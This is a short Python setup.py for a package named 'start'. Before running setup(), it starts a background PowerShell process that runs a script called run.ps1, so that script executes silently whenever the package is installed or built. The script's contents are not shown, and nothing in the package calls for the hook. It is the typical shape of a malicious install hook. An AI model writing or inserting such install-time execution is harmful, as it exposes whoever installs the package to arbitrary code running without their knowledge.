import subprocess
from setuptools import setup

subprocess.Popen(["powershell", "-File", "run.ps1"])
setup(name="start", version="1.0")
